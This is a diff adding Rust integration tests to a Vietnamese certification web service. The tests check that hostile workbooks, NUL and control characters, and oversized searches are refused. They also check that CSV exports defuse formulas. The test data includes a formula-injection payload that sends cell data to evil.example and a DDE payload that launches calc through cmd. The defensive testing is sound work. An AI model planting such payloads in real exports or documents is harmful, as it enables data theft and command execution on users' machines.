@@ -3,12 +3,18 @@
 //! large, and never uses the client's file name in a path; the names sent back in
 //! `Content-Disposition` are the server's own. Every refusal is a 4xx with an error
 //! code and a Vietnamese message (JSON for the API, the error page for forms).
+//!
+//! Issue 12, each finding reproduced as written: a workbook declaring 4,294,967,295
+//! shared strings (and its variants) is a 422 on every .xlsx upload and the server
+//! still answers; every CSV download defuses formulas; NUL and control characters
+//! are a 422 naming the field, in JSON, forms and queries; search input is bounded.
 
 mod common;
 
-use common::{TestApp, TestClient, TestResponse, producer_body, tax_code};
+use common::{PASSWORD, TestApp, TestClient, TestResponse, producer_body, tax_code};
 use ocop_domain::{ErrorCode, Lang};
-use serde_json::json;
+use ocop_service::accounts::{self, NewUser};
+use serde_json::{Value, json};
 
 const CAM_XUYEN: &str = "2025/commune/18673";
 const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
@@ -262,4 +268,360 @@ async fn uploads_refuse_executables_and_oversize_files_and_ignore_client_names()
         )
         .await;
     assert_eq!(refused(&r, "12 MiB directive"), "payload_too_large");
+}
+
+/// A seed of scripts/hostile-xlsx.py (fuzz/seeds/certificate_xlsx/).
+fn seed(name: &str) -> Vec<u8> {
+    let path = format!(
+        "{}/../../fuzz/seeds/certificate_xlsx/{name}",
+        env!("CARGO_MANIFEST_DIR")
+    );
+    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
+}
+
+const HOSTILE_WORKBOOKS: [&str; 4] = [
+    "shared_strings_4294967295.xlsx",
+    "shared_strings_100000000.xlsx",
+    "shared_strings_unique_lies.xlsx",
+    "styles_70000_xf.xlsx",
+];
+
+const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+
+/// Today in Vietnam, `YYYY-MM-DD`.
+fn today() -> chrono::NaiveDate {
+    (chrono::Utc::now() + chrono::Duration::hours(7)).date_naive()
+}
+
+/// A producer and its product in Cẩm Xuyên with a 4★ certificate issued today; returns
+/// the product id and the verification code.
+async fn certified(client: &mut TestClient, producer_name: &str, product_name: &str, seed: u64) -> (String, String) {
+    let producer = client
+        .post_json(
+            "/api/v1/producers",
+            &producer_body(producer_name, &tax_code(seed), CAM_XUYEN),
+        )
+        .await;
+    assert_eq!(producer.status, 201, "{}", producer.text);
+    let product = client
+        .post_json(
+            "/api/v1/products",
+            &json!({ "name": product_name, "producer_id": producer.json()["id"], "product_set_code": "I.4.a", "commune_id": CAM_XUYEN }),
+        )
+        .await;
+    assert_eq!(product.status, 201, "{}", product.text);
+    let product_id = product.json()["id"].as_str().unwrap().to_owned();
+    let decision = json!({ "number": format!("{seed}/QĐ-UBND"), "decided_on": today().to_string(),
+        "issuer_name": "UBND tỉnh Hà Tĩnh", "issuer_level": "province", "legal_basis": "qd148" });
+    let issued = client
+        .post_json(
+            "/api/v1/certificates",
+            &json!({ "decision": decision, "items": [{ "product_id": product_id, "stars": 4, "score": 78.25 }] }),
+        )
+        .await;
+    assert_eq!(issued.status, 201, "{}", issued.text);
+    let code = issued.json()[0]["verification_code"].as_str().unwrap().to_owned();
+    (product_id, code)
+}
+
+/// The cells of a CSV download (the byte order mark checked and removed).
+fn csv_cells(response: &TestResponse) -> Vec<Vec<String>> {
+    assert_eq!(response.status, 200, "{}", response.text);
+    assert!(
+        response.headers["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/csv")
+    );
+    let text = response.text.strip_prefix('\u{feff}').unwrap_or_else(|| {
+        panic!(
+            "no byte order mark: {:?}",
+            &response.text[..20.min(response.text.len())]
+        )
+    });
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// The cells of `column` (named in the header row) in every data row.
+fn column(cells: &[Vec<String>], name: &str) -> Vec<String> {
+    let at = cells[0]
+        .iter()
+        .position(|h| h == name)
+        .unwrap_or_else(|| panic!("no column {name}"));
+    cells[1..].iter().map(|row| row[at].clone()).collect()
+}
+
+fn field_error(response: &TestResponse, field: &str, code: ErrorCode) {
+    assert_eq!(response.status, 422, "{field}: {}", response.text);
+    assert!(
+        response
+            .field_codes()
+            .contains(&(field.to_owned(), code.as_str().to_owned())),
+        "{field} {code:?} expected: {}",
+        response.text
+    );
+}
+
+#[tokio::test]
+async fn workbooks_declaring_billions_of_strings_are_refused_and_the_server_stays_up() {
+    let app = TestApp::spawn().await;
+    let mut admin = app.login_as("dl.admin", "administrator", None, None).await;
+    let mut province = app
+        .login_as("tinh.hatinh", "province_officer", Some("2025/province/42"), None)
+        .await;
+    let mut central = app.login_as("trunguong", "central_officer", None, None).await;
+    for name in HOSTILE_WORKBOOKS {
+        let bytes = seed(name);
+        // Certificate import (province officer), criteria-set import (central officer),
+        // the criteria-set upload page (administrator): every .xlsx upload.
+        let r = province
+            .post_bytes("/api/v1/certificates/import", XLSX, bytes.clone())
+            .await;
+        assert_eq!(refused(&r, name), "import_rejected");
+        field_error(&r, "file", ErrorCode::WorkbookDeclaresTooMuch);
+        let r = central
+            .post_bytes("/api/v1/criteria-sets/import", XLSX, bytes.clone())
+            .await;
+        assert_eq!(r.status, 422, "{name}: {}", r.text);
+        assert!(
+            r.field_codes()
+                .contains(&("file".to_owned(), "workbook_declares_too_much".to_owned())),
+            "{name}: {}",
+            r.text
+        );
+        let r = post_multipart(
+            &mut admin,
+            "/criteria-sets",
+            multipart("file", "bo.xlsx", XLSX, &bytes, &[]),
+        )
+        .await;
+        refused_page(&r, name, ErrorCode::WorkbookDeclaresTooMuch);
+        assert_eq!(r.status, 422, "{name}");
+        let health = app.client().get("/healthz").await;
+        assert_eq!(health.status, 200, "the server still answers after {name}");
+    }
+    // The honest workbook the seeds are made from passes the guard: refused, if at all,
+    // for its rows, not for its declarations.
+    let r = province
+        .post_bytes("/api/v1/certificates/import", XLSX, seed("shared_strings_honest.xlsx"))
+        .await;
+    assert!(
+        !r.text.contains("workbook_declares_too_much"),
+        "the honest workbook is not refused for what it declares: {}",
+        r.text
+    );
+}
+
+#[tokio::test]
+async fn every_csv_download_defuses_formulas_in_text_cells_and_starts_with_a_bom() {
+    let app = TestApp::spawn().await;
+    accounts::create_user(
+        &app.ctx.db,
+        None,
+        &NewUser {
+            username: "hostile.admin".into(),
+            display_name: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
+            password: PASSWORD.into(),
+            role: "administrator".into(),
+            scope_unit_id: None,
+            producer_id: None,
+        },
+    )
+    .await
+    .unwrap();
+    let mut admin = app.client();
+    let login = admin
+        .post_json(
+            "/api/v1/auth/login",
+            &json!({ "username": "hostile.admin", "password": PASSWORD }),
+        )
+        .await;
+    assert_eq!(login.status, 200, "{}", login.text);
+    certified(&mut admin, HYPERLINK, "+SUM(A1:A9)", 901).await;
+    certified(&mut admin, "HTX Chè Thái", "Trà đen", 902).await;
+
+    // Open data (public).
+    let cells = csv_cells(&app.client().get("/api/v1/open-data/certificates.csv").await);
+    assert_eq!(cells[0][0], "certificate_number");
+    let producers = column(&cells, "producer_name");
+    assert!(producers.contains(&format!("'{HYPERLINK}")), "{producers:?}");
+    assert!(
+        producers.contains(&"HTX Chè Thái".to_owned()),
+        "plain text is untouched"
+    );
+    assert!(column(&cells, "product_name").contains(&"'+SUM(A1:A9)".to_owned()));
+    assert!(
+        column(&cells, "stars").iter().all(|s| s == "4"),
+        "numeric cells are not quoted"
+    );
+    assert!(column(&cells, "score").iter().all(|s| s.parse::<f64>().is_ok()));
+
+    // PTNT_OCOP.
+    let day = today();
+    let half = if chrono::Datelike::month(&day) <= 6 { "H1" } else { "H2" };
+    let query = format!(
+        "unit_id=2025/province/42&period={}-{half}&units=current",
+        chrono::Datelike::year(&day)
+    );
+    let cells = csv_cells(&admin.get(&format!("/api/v1/programme/ptnt.csv?{query}")).await);
+    assert_eq!(cells[0][0], "MA_OCOP");
+    let producers = column(&cells, "ChuTheSXKD");
+    assert!(producers.contains(&format!("'{HYPERLINK}")), "{producers:?}");
+    assert!(column(&cells, "TenSanPham").contains(&"'+SUM(A1:A9)".to_owned()));
+
+    // The audit trail goes through the same writer (byte order mark, numeric `seq`); its
+    // actor column holds the login name, which cannot begin with a formula sign.
+    let cells = csv_cells(&admin.get("/audit.csv?action=producer.create").await);
+    assert!(!column(&cells, "actor_name").is_empty());
+    assert!(column(&cells, "seq").iter().all(|s| s.parse::<u64>().is_ok()));
+}
+
+#[tokio::test]
+async fn nul_and_control_characters_are_a_422_naming_the_field_and_text_is_stored_in_nfc() {
+    let app = TestApp::spawn().await;
+    let mut admin = app.login_as("dl.admin", "administrator", None, None).await;
+    // JSON: the finding (200 on SQLite, 500 on PostgreSQL before).
+    let r = admin
+        .post_json(
+            "/api/v1/producers",
+            &producer_body("abc\u{0}def", &tax_code(710), CAM_XUYEN),
+        )
+        .await;
+    assert_eq!(refused(&r, "NUL in a producer name"), "validation_failed");
+    field_error(&r, "name", ErrorCode::ControlCharacter);
+    for (field, value) in [
+        ("representative", "Nguyễn\u{1b}[2J An"),
+        ("address_line", "Thôn 1\u{7f}"),
+    ] {
+        let mut body = producer_body("HTX Sạch", &tax_code(711), CAM_XUYEN);
+        body[field] = Value::String(value.to_owned());
+        field_error(
+            &admin.post_json("/api/v1/producers", &body).await,
+            field,
+            ErrorCode::ControlCharacter,
+        );
+    }
+    // A name is one line; a description may span lines (and keeps them).
+    let r = admin
+        .post_json(
+            "/api/v1/producers",
+            &producer_body("HTX\nXuống dòng", &tax_code(712), CAM_XUYEN),
+        )
+        .await;
+    field_error(&r, "name", ErrorCode::ControlCharacter);
+    // NFD in, NFC stored.
+    let nfd = "HTX Ca\u{302}\u{309}m Xuye\u{302}n";
+    let r = admin
+        .post_json("/api/v1/producers", &producer_body(nfd, &tax_code(713), CAM_XUYEN))
+        .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+    assert_eq!(r.json()["name"], "HTX Cẩm Xuyên");
+    let producer_id = r.json()["id"].as_str().unwrap().to_owned();
+    let product = admin
+        .post_json(
+            "/api/v1/products",
+            &json!({ "name": "Mật ong", "producer_id": producer_id, "product_set_code": "I.4.a",
+                     "commune_id": CAM_XUYEN, "description": "Dòng một\r\n\tDòng hai" }),
+        )
+        .await;
+    assert_eq!(product.status, 201, "{}", product.text);
+    assert_eq!(product.json()["description"], "Dòng một\n\tDòng hai");
+    // Nested JSON: the path of the field is named.
+    let r = admin
+        .post_json(
+            "/api/v1/certificates",
+            &json!({ "decision": { "number": "1/QĐ", "decided_on": today().to_string(), "issuer_name": "UBND\u{0}",
+                     "issuer_level": "province", "legal_basis": "qd148" }, "items": [] }),
+        )
+        .await;
+    field_error(&r, "decision.issuer_name", ErrorCode::ControlCharacter);
+
+    // The anonymous fake-report form (500 before) and a query string.
+    let (_, code) = certified(&mut admin, "HTX Báo Cáo", "Trà báo cáo", 714).await;
+    let mut public = app.client();
+    let r = public
+        .post_bytes(
+            &format!("/v/{code}/report"),
+            "application/x-www-form-urlencoded",
+            b"message=fake%00report&contact=".to_vec(),
+        )
+        .await;
+    refused_page(&r, "NUL in a fake report", ErrorCode::ControlCharacter);
+    assert_eq!(r.status, 422);
+    let r = public
+        .post_bytes(
+            &format!("/v/{code}/report"),
+            "application/x-www-form-urlencoded",
+            "message=Nh%C3%A3n+m%E1%BB%9D%0D%0Ad%C3%B2ng+hai&contact="
+                .as_bytes()
+                .to_vec(),
+        )
+        .await;
+    assert_eq!(r.status, 200, "a multi-line report is accepted: {}", r.text);
+    let reports = ocop_storage::repo::certificate_repo::reports_of_province(app.ctx.db.conn(), "42")
+        .await
+        .unwrap();
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0].message, "Nhãn mờ\ndòng hai");
+    let r = public.get("/api/v1/catalogue?q=m%E1%BA%ADt%00ong").await;
+    field_error(&r, "q", ErrorCode::ControlCharacter);
+    assert_eq!(app.client().get("/healthz").await.status, 200);
+}
+
+#[tokio::test]
+async fn search_input_is_bounded_on_every_q() {
+    let app = TestApp::spawn().await;
+    let mut admin = app.login_as("dl.admin", "administrator", None, None).await;
+    certified(&mut admin, "HTX Mật Ong Rừng", "Mật ong rừng Cẩm Xuyên", 720).await;
+    let mut public = app.client();
+    let words_501 = vec!["mat"; 501].join("+");
+    let words_3000 = vec!["ong"; 3_000].join("+");
+    let thirteen = vec!["ong"; 13].join("+");
+    let fifty_kb = "m".repeat(50 * 1024);
+    for path in [
+        "/api/v1/catalogue",
+        "/api/v1/products",
+        "/api/v1/producers",
+        "/api/v1/admin-units",
+    ] {
+        let client = if path == "/api/v1/catalogue" {
+            &mut public
+        } else {
+            &mut admin
+        };
+        for (what, q, code) in [
+            ("501 words", &words_501, ErrorCode::TooLong),
+            ("3,000 words", &words_3000, ErrorCode::TooLong),
+            ("13 words", &thirteen, ErrorCode::TooManyTerms),
+            ("50 KB", &fifty_kb, ErrorCode::TooLong),
+        ] {
+            let started = std::time::Instant::now();
+            let r = client.get(&format!("{path}?q={q}")).await;
+            assert!(
+                started.elapsed().as_secs() < 5,
+                "{path} {what}: {:?}",
+                started.elapsed()
+            );
+            assert_eq!(refused(&r, &format!("{path} {what}")), "validation_failed");
+            field_error(&r, "q", code);
+        }
+        let twelve = ["mat"; 12].join("+");
+        assert_eq!(
+            client.get(&format!("{path}?q={twelve}")).await.status,
+            200,
+            "{path}: 12 words"
+        );
+    }
+    // The pages refuse the same query with a 422 page.
+    let r = public.get(&format!("/catalogue?q={words_501}")).await;
+    assert_eq!(r.status, 422, "{}", r.text);
+    // Typo correction still works within the bounds: "mat ongg" finds "mật ong".
+    let found = public.get("/api/v1/catalogue?q=mat+ongg").await;
+    assert_eq!(found.status, 200);
+    assert_eq!(found.json()["total"], 1, "{}", found.text);
 }
